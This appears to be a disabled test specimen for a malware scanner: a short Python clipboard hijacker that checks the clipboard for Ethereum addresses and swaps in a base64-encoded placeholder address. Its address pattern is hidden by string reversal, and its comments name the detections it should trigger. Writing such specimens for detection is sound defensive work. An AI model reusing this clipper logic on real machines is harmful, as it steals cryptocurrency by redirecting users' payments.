raise SystemExit("specimen: not to be run")
import base64
import re
import subprocess

MINE = base64.b64decode("MHgwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDBkRWFE").decode()
PATTERN = "$}04{]9-0F-Af-a[x0^"[::-1]

def watch():
    text = subprocess.getoutput("powershell Get-Clipboard")
    if re.match(PATTERN, text):
        subprocess.run("powershell Set-Clipboard " + MINE, shell=True)  # match: clipboard-swap  # match: execution-of-decoded
